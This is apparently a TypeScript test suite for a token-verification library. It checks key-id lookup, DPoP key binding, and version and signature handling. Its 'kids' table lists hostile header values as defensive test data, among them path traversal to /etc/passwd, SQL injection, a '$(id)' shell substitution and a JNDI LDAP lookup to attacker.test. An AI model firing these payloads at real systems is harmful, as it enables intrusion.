import assert from 'node:assert/strict';

import { ARTIFACT_TYPES, canonicalize } from '@axtary/core';

import { createKeyring } from '../../src/index.js';
import { passWith, passWithHeader, signer, validPass, verdictOf, verify } from '../support.js';
import { boundTo, freshSigner, passBy } from './support.js';

const holder = freshSigner();
const own = signer.publicJwk ?? holder.publicJwk;
const keyring = createKeyring([own, freshSigner().publicJwk]);
const header = { alg: 'ES256', typ: ARTIFACT_TYPES.pass };

describe('a kid that is an attack', () => {
  const kids: Readonly<Record<string, unknown>> = {
    'a path': '../../etc/passwd',
    'a path to an empty file': '../../../../dev/null',
    'an absolute path': '/etc/ssl/certs/ca-certificates.crt',
    'a Windows path': '..\\..\\key.pem',
    'a file URL': 'file:///etc/passwd',
    'an https URL': 'https://attacker.test/key',
    'a NUL behind the right one': `${signer.kid ?? ''}\u0000`,
    'a NUL before the right one': `\u0000${signer.kid ?? ''}`,
    SQL: "x' UNION SELECT 'AAAA",
    'SQL that is always true': "' OR 1=1 --",
    'a shell command': '$(id)',
    'a template': '${jndi:ldap://attacker.test}',
    '10 kB': 'k'.repeat(10_240),
    'a thumbprint of no key': 'A'.repeat(43),
    'the right one in another case': (signer.kid ?? '').toLowerCase(),
    'the right one, padded': `${signer.kid ?? ''}=`,
    'a member of every object': 'constructor',
    'the prototype': '__proto__',
    empty: '',
    'no text': 1,
    'a list with the right one': [signer.kid],
    null: null,
    missing: undefined,
  };
  for (const [what, kid] of Object.entries(kids)) {
    it(`finds no key: ${what}`, async () => {
      const pass = await passWithHeader({ ...header, kid });
      assert.equal(await verdictOf(pass, { keyring }), 'PASS_KEY_UNKNOWN');
    });
  }

  it('is not shown in the message', async () => {
    const result = await verify(await passWithHeader({ ...header, kid: 'evil' }), { keyring });
    assert.ok(!result.valid && !result.message.includes('evil'));
  });

  it('is looked at only after alg and typ', async () => {
    const none = await passWithHeader({ ...header, alg: 'none', kid: 'x' });
    assert.equal(await verdictOf(none, { keyring }), 'PASS_ALG_NOT_ALLOWED');
    const proof = await passWithHeader({ ...header, typ: 'dpop+jwt', kid: 'x' });
    assert.equal(await verdictOf(proof, { keyring }), 'PASS_TYPE_MISMATCH');
  });
});

describe('a key set with two keys of one kid', () => {
  it('cannot be built: a kid is the thumbprint of its key', () => {
    const attacker = freshSigner();
    const shadow = { ...attacker.publicJwk, kid: signer.kid ?? '' };
    assert.throws(() => createKeyring([own, shadow]), TypeError);
    assert.throws(() => createKeyring([shadow, own]), TypeError);
    assert.throws(() => createKeyring([shadow]), TypeError);
  });
});

describe('a pass that is bound to a key', () => {
  const bound = boundTo(holder);

  it('is refused without a proof, and with that of another key', async () => {
    const pass = await passWith(bound);
    assert.equal(await verdictOf(pass), 'DPOP_PROOF_MISSING');
    assert.equal(await verdictOf(pass, { presentedBy: '' }), 'DPOP_KEY_MISMATCH');
    assert.equal(await verdictOf(pass, { presentedBy: signer.kid ?? '' }), 'DPOP_KEY_MISMATCH');
    assert.equal(
      await verdictOf(pass, { presentedBy: holder.kid.slice(0, 42) }),
      'DPOP_KEY_MISMATCH',
    );
    assert.equal(await verdictOf(pass, { presentedBy: holder.kid }), 'valid');
  });

  for (const [what, cnf] of [
    ['none', undefined],
    ['null', null],
    ['empty', {}],
    ['two members', { jkt: holder.kid, jwk: holder.publicJwk }],
    ['jkt and x5t#S256', { jkt: holder.kid, 'x5t#S256': holder.kid }],
    ['jkt and kid', { jkt: holder.kid, kid: holder.kid }],
    ['a key instead of its thumbprint', { jwk: holder.publicJwk }],
    ['a list', [{ jkt: holder.kid }]],
    ['a jkt that is a list', { jkt: [holder.kid] }],
    ['a short jkt', { jkt: holder.kid.slice(1) }],
    ['a padded jkt', { jkt: `${holder.kid}=` }],
    ['an upper-case member', { JKT: holder.kid }],
  ] as const) {
    it(`is malformed with a confirmation that is ${what}`, async () => {
      const pass = await passWith({ ver: 1, cnf });
      assert.equal(await verdictOf(pass, { presentedBy: holder.kid }), 'PASS_MALFORMED');
    });
  }
});

describe('a version that is mixed up', () => {
  const delegation = { parent: 'd1', root: 'd1', depth: 0 };
  for (const [what, changes] of [
    ['version 0 with a confirmation', { cnf: { jkt: holder.kid } }],
    ['version 0 with an audience', { aud: ['a'] }],
    ['version 0 with a delegation', { delegation }],
    ['version 1 without a confirmation', { ver: 1 }],
    ['version 2', { ver: 2, cnf: { jkt: holder.kid } }],
    ['version "1"', { ver: '1', cnf: { jkt: holder.kid } }],
    ['version 0.5', { ver: 0.5 }],
    ['version true', { ver: true }],
    ['no version', { ver: undefined }],
    ['a list of versions', { ver: [0, 1] }],
  ] as const) {
    it(`is refused: ${what}`, async () => {
      const pass = await passWith(changes);
      assert.equal(await verdictOf(pass, { presentedBy: holder.kid }), 'PASS_MALFORMED');
    });
  }

  it('cannot be changed without the issuer: a bound pass does not become a free one', async () => {
    const bound = await passBy(holder, boundTo(holder));
    const { claims } = await validPass();
    const [head = '', , signature = ''] = bound.split('.');
    const free = `${head}.${Buffer.from(canonicalize(claims)).toString('base64url')}.${signature}`;
    const keys = createKeyring([holder.publicJwk]);
    assert.equal(await verdictOf(free, { keyring: keys }), 'PASS_SIGNATURE_INVALID');
  });

  it('is not: a delegation in a pass of version 1 is taken', async () => {
    const pass = await passWith({ ...boundTo(holder), delegation });
    assert.equal(await verdictOf(pass, { presentedBy: holder.kid }), 'valid');
  });
});
